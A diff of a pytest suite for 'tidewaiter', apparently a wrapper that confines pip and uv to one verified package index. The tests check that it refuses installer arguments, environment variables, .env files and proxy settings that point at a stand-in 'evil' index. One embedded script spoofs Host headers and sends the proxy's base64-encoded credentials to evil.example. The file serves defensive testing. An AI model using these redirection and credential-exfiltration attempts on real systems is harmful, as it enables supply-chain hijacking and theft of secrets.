@@ -43,10 +43,11 @@ def honest(world):  # noqa: F811
 def test_a_command_that_names_another_index_is_not_run(world, evil, tool):  # noqa: F811
     index, links = f"{evil.url}simple/", f"{evil.url}links/"
     said = [["--index-url", index], [f"--extra-index-url={index}"], ["--find-links", links], ["-i", index], ["-f", links]]
-    said += [[f"-qi{index}"], ["--no-index"], [f"git+{evil.url}x"]]
+    said += [[f"-qi{index}"], ["--no-index"], [f"git+{evil.url}x"], [f"HG+{evil.url}x"], [f"-ehg+{evil.url}x"]]
     if tool.startswith("pip"):
-        said += [["--index-u", index], ["--extra", index], ["--prox", evil.url], ["--isolated"]]
+        said += [["--index-u", index], ["--extra", index], ["--prox", evil.url], ["--isolated"], ["--no-proxy-env"]]
     else:
+        said += [["--env-file", ".env"], ["--env-file=.env"]]
         said += [["--index", index], ["--default-index", index], ["--config-file", "uv.toml"]]
     for words in said:
         done, target = started(world, tool, "demo", *words)
@@ -77,10 +78,45 @@ def test_an_environment_that_names_another_index_does_not_count(world, evil, too
     env |= {"UV_INDEX": index, "UV_INDEX_URL": index, "UV_EXTRA_INDEX_URL": index, "UV_FIND_LINKS": links}
     env |= {"UV_DEFAULT_INDEX": index, "PIP_PROXY": evil.url, "PIP_proxy": evil.url, "http_proxy": evil.url}
     env |= {"HTTP_PROXY": evil.url, "ALL_PROXY": evil.url, "NO_PROXY": "*", "no_proxy": "127.0.0.1,localhost"}
-    env |= {"PIP_ISOLATED": "1", "REQUEST_METHOD": "GET"}
+    env |= {"PIP_ISOLATED": "1", "REQUEST_METHOD": "GET", "PIP_NO_PROXY_ENV": "1", "PIP_OF_TOMORROW": "1"}
+    # As requests have it: a proxy of one scheme, of one host, and of one host in one scheme.
+    env |= {name: evil.url for name in ("all_proxy", "ftp_PROXY", "http://127.0.0.1_proxy", "all://127.0.0.1_proxy")}
+    # Settings that lead nowhere hold on.
+    env |= {"PIP_TIMEOUT": "20", "PIP_PROGRESS_BAR": "off", "UV_HTTP_TIMEOUT": "20", "UV_NO_PROGRESS": "1"}
     done, target = started(world, tool, "demo", env={k: str(v) for k, v in env.items()}, cwd=home)
     assert done.returncode == 0, done.stdout + done.stderr
     assert installed(target) == {"demo": "2.0"} and evil.asked == []
+    (line,) = done.stderr.splitlines()[:1]
+    assert line.startswith("tidewaiter: not handed on") and "PIP_NO_PROXY_ENV, PIP_OF_TOMORROW" in line, line
+    assert "http://127.0.0.1_proxy" in line and "TIMEOUT" not in line and "PROGRESS" not in line
+
+
+@pytest.mark.parametrize("tool", TOOLS)
+def test_what_an_installer_starts_cannot_leave_either(world, evil, tool):  # noqa: F811
+    """`uv run pip install`: uv would give pip the variables of a file."""
+    target = world.clients.fresh("target")
+    kind, _, version = tool.partition("-")
+    pip = [*world.clients.pips[version if kind == "pip" else "current"], "install", "--no-cache-dir", "--target", target]
+    uv = [world.clients.uvs[version if kind == "uv" else "current"], "run", "--no-project", "--python", sys.executable]
+    (world.folder / ".env").write_text(f"PIP_PROXY={evil.url}\nPIP_EXTRA_INDEX_URL={evil.url}simple/\n")
+    env = {**world.clients.env(), "UV_ENV_FILE": str(world.folder / ".env")}
+    base = [binary(), "run", "--index", world.honest.url, "--root", world.root, "--state", world.folder / "state"]
+    done = run([*base, "--", *uv, "--", *pip, "demo"], env=env)
+    assert done.returncode == 0 and installed(target) == {"demo": "2.0"}, done.stdout + done.stderr
+    assert evil.asked == [] and "not handed on, as it may lead past the verified index: UV_ENV_FILE" in done.stderr
+
+
+def test_a_pip_that_looks_at_no_environment_stays_too(world, evil):  # noqa: F811
+    """As if it had an option that we do not know: the second word on the proxy holds."""
+    path = world.folder / "requirements.txt"
+    path.write_text(f"--extra-index-url {evil.url}simple/\ndemo\n")
+    target = world.clients.fresh("target")
+    install = [*world.clients.pips["current"], "install", "--no-cache-dir", "--target", target, "-r", path]
+    script = "import os, sys; os.environ['PIP_NO_PROXY_ENV'] = '1'; os.execvp(sys.argv[1], sys.argv[1:])"
+    base = [binary(), "run", "--index", world.honest.url, "--root", world.root, "--state", world.folder / "state"]
+    done = run([*base, "--", sys.executable, "-c", script, *install], env=world.clients.env())
+    assert done.returncode != 0 and installed(target) in ({}, {"demo": "2.0"}), done.stdout + done.stderr
+    assert evil.asked == [] and "refused: the installer wanted to leave" in done.stderr
 
 
 @pytest.mark.parametrize("tool", TOOLS)
@@ -128,3 +164,62 @@ def test_the_proxy_answers_for_its_own_address_alone(world, evil):  # noqa: F811
     finally:
         proxy.close()
     assert evil.asked == []
+
+
+def test_others_on_this_machine_get_nothing(world, evil):  # noqa: F811
+    """Nor does a page in a browser whose name leads here; and what they try is not laid at the command's door."""
+    script = """
+import http.client, os, sys, urllib.parse
+
+index, proxy = (urllib.parse.urlparse(os.environ[name]) for name in ("PIP_INDEX_URL", "http_proxy"))
+
+def ask(path, method="GET", **headers):
+    line = http.client.HTTPConnection(index.hostname, index.port)
+    line.request(method, path, headers={name.replace("_", "-"): text for name, text in headers.items()})
+    print(line.getresponse().status, end=" ")
+
+word = index.path.split("/")[1]
+ask(index.path + "demo/")
+ask(index.path + "demo/", Host="evil.example:%d" % index.port)
+ask("/simple/demo/")
+ask(index.path.replace(word, word[:-1]) + "demo/")
+ask("http://evil.example/", Proxy_Authorization="Basic cnVuOng=")
+ask("evil.example:443", "CONNECT")
+if sys.argv[1:] == ["with the word"]:
+    import base64
+    secret = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
+    ask("http://evil.example/", Proxy_Authorization="Basic " + secret)
+"""
+    base = [binary(), "run", "--index", world.honest.url, "--root", world.root, "--state", world.folder / "state", "--"]
+    done = run([*base, sys.executable, "-c", script])
+    assert (done.returncode, done.stdout.split(), done.stderr) == (0, ["200", "421", "404", "404", "407", "407"], "")
+    done = run([*base, sys.executable, "-c", script, "with the word"])
+    assert done.returncode == 1 and done.stdout.split()[-1] == "409" and "evil.example: refused" in done.stderr
+    proxy = Proxied(world, world.honest)
+    try:
+        for host, status in [("localhost", 200), (f"127.0.0.1:{proxy.port}", 200), ("[::1]:1", 200), ("evil.example", 421), ("", 421)]:
+            assert proxy.get("/simple/demo/", Host=host)[0] == status, host
+    finally:
+        proxy.close()
+
+
+def test_a_refusal_is_told_however_much_is_absent(world):  # noqa: F811
+    script = """
+import http.client, os, urllib.parse
+
+index = urllib.parse.urlparse(os.environ["PIP_INDEX_URL"])
+line = http.client.HTTPConnection(index.hostname, index.port)
+for n in range(120):
+    line.request("GET", f"{index.path}nothing-{n}/")
+    line.getresponse().read()
+os.environ["no_proxy"] = ""
+import urllib.request
+try:
+    urllib.request.urlopen("http://evil.example/")
+except urllib.error.HTTPError as error:
+    print(error.code)
+"""
+    base = [binary(), "run", "--index", world.honest.url, "--root", world.root, "--state", world.folder / "state", "--"]
+    done = run([*base, sys.executable, "-c", script])
+    assert done.stdout == "409\n" and done.returncode == 1, done.stderr
+    assert len(done.stderr.splitlines()) == 1 and "evil.example: refused" in done.stderr
